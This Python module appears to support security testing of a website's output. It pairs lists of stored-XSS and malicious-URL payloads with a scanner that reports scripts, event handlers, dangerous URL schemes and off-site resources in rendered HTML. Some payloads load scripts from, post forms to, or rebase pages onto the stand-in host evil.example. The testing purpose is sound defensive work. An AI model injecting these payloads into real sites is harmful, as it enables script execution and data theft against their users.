"""Attack strings and a scanner that finds active markup in a rendered page.

The scanner parses HTML the way a browser tokenises it (`html.parser`) and reports
anything that could run code or load something from elsewhere: scripts other than
the site's own files and JSON data blocks, `on…` handlers, `javascript:`/`data:`
URLs, frames, objects, `<base>`, refresh redirects, forms posting elsewhere,
resources from other hosts, and CSS that calls out (`expression()`, `url()`).
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

# Classic stored-XSS payloads: tag injection, attribute breakouts, URL schemes,
# Markdown tricks, template syntax, CSS, and encoded forms. At most 70 characters,
# so that they fit the short fields (a display name has 80) next to a marker.
XSS_PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<a href="javascript:alert(1)">klick</a>',
    "[klick](javascript:alert(1))",
    "[klick](JaVaScRiPt:alert(1))",
    "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '![x](x" onerror="alert(1))',
    '[x](https://example.org/" onmouseover="alert(1))',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=//evil.example><button>Los</button></form>",
    "<details open ontoggle=alert(1)>",
    "{{ 7|add:42 }} {% csrf_token %} ${7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
]

# Values for the link fields: a URL that passes a naive check but breaks out, or
# a scheme that must never become a link.
URL_PAYLOADS: list[str] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/'onmouseover='alert(1)",
    'https://example.org/#"><img src=x onerror=alert(1)>',
    "https://example.org/?q=</a><script>alert(1)</script>",
    "//evil.example/x",
]

DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "xlink:href",
    "srcset",
    "codebase",
    "cite",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "ping",
}
# Attributes that load something: only this site's own paths may appear there.
RESOURCE_ATTRIBUTES = {"src", "srcset", "data", "poster", "background", "codebase"}
NEVER_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}
CSS_CALLS = re.compile(
    r"expression\s*\(|url\s*\(|@import|behavior\s*:|javascript", re.I
)
_CONTROL = re.compile(r"[\x00-\x20]+")


@dataclass
class Finding:
    rule: str
    detail: str

    def __str__(self) -> str:
        return f"{self.rule}: {self.detail[:160]}"


@dataclass
class _Scanner(HTMLParser):
    site_url: str
    findings: list[Finding] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self._script: tuple[str, str] | None = None  # (type, text so far)
        self._style: str | None = None

    def own_resource(self, value: str) -> bool:
        value = value.strip()
        if value.startswith("//"):
            return False
        return value.startswith(("/", "#", "?")) or value.startswith(
            self.site_url + "/"
        )

    def handle_startendtag(self, tag: str, attrs: list) -> None:
        self.handle_starttag(tag, attrs)
        if tag in ("script", "style"):
            self.handle_endtag(tag)

    def handle_starttag(self, tag: str, attrs: list) -> None:
        attributes = {name.lower(): (value or "") for name, value in attrs}
        shown = f"<{tag} " + " ".join(f'{k}="{v}"' for k, v in attributes.items()) + ">"
        if tag in NEVER_ELEMENTS:
            self.findings.append(Finding(f"<{tag}> element", shown))
        for name, value in attributes.items():
            plain = _CONTROL.sub("", value).lower()
            if name.startswith("on"):
                self.findings.append(Finding("event handler attribute", shown))
            if name in URL_ATTRIBUTES and plain.startswith(DANGEROUS_SCHEMES):
                self.findings.append(Finding("dangerous URL scheme", shown))
            if name in RESOURCE_ATTRIBUTES and not self.own_resource(value):
                self.findings.append(Finding("resource from elsewhere", shown))
            if name == "style" and CSS_CALLS.search(value):
                self.findings.append(Finding("CSS that calls out", shown))
            if name == "srcdoc":
                self.findings.append(Finding("srcdoc attribute", shown))
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            self.findings.append(Finding("meta refresh", shown))
        if tag == "link" and not self.own_resource(attributes.get("href", "/")):
            self.findings.append(Finding("link to elsewhere", shown))
        targets = [attributes.get("formaction")]
        if tag == "form":
            targets.append(attributes.get("action"))
        if any(t and not self.own_resource(t) for t in targets):
            self.findings.append(Finding("form posting elsewhere", shown))
        if tag == "script":
            src = attributes.get("src")
            kind = attributes.get("type", "").lower()
            if src is not None:
                if not self.own_resource(src) or src.startswith(("#", "?")):
                    self.findings.append(Finding("script from elsewhere", shown))
            elif kind not in DATA_SCRIPT_TYPES:
                self.findings.append(Finding("inline script", shown))
            self._script = (kind if src is None else "src", "")
        if tag == "style":
            self._style = ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            kind, text = self._script
            if kind in DATA_SCRIPT_TYPES:
                try:
                    json.loads(text)
                except ValueError:
                    self.findings.append(Finding("data block is not JSON", text))
                if re.search(r"</|<!--", text):
                    self.findings.append(Finding("data block can end early", text))
            self._script = None
        if tag == "style" and self._style is not None:
            if CSS_CALLS.search(self._style):
                self.findings.append(Finding("<style> that calls out", self._style))
            self._style = None

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script = (self._script[0], self._script[1] + data)
        if self._style is not None:
            self._style += data


def active_markup(html: str, site_url: str = "") -> list[Finding]:
    """Everything in `html` that could run code or load from elsewhere."""
    scanner = _Scanner(site_url=site_url.rstrip("/"))
    scanner.feed(html)
    scanner.close()
    return scanner.findings
